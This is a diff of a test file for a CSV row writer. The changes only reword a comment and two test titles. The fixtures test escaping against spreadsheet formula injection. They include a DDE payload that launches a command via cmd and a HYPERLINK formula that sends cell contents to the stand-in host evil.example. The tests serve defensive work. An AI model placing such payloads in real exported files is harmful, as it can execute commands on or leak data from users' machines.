@@ -25,20 +25,20 @@ describe('A row of a CSV file', () => {
     ["'=1+1", "''=1+1"],
     ['＝1+1', "'＝1+1"],
     ['＠SUM(A1)', "'＠SUM(A1)"],
-    // Where a semicolon or a tab separates cells, the quotes do not protect.
+    // Quotes do not protect if a semicolon or a tab separates cells.
     ['a;=1+1', "a;'=1+1"],
     ['a";"=1+1', `a"";""'=1+1`],
     ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
     ['a\r\n=1+1', "a\r\n'=1+1"],
     [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
     ['=HYPERLINK("http://evil.example?x="&A1,"open")', `'=HYPERLINK(""http://evil.example?x=""&A1,""open"")`],
-  ])('never holds a formula: %j', (text, written) => {
+  ])('never contains a formula: %j', (text, written) => {
     expect(csvRow([text])).toBe(`"${written}"\r\n`);
     expect(csvRow(['before', text, 'after'])).toBe(`"before","${written}","after"\r\n`);
   });
 
   it.each(['Invoice 2026-118', 'a@b.c', '<id@acme.io>', '550 5.1.1 no such user', 'a=b', 'Über uns', 'x - y', '1+1', 'Hi; there'])(
-    'keeps what is no formula: %j',
+    'keeps text that is not a formula: %j',
     (text) => {
       expect(csvRow([text])).toBe(`"${text}"\r\n`);
     },
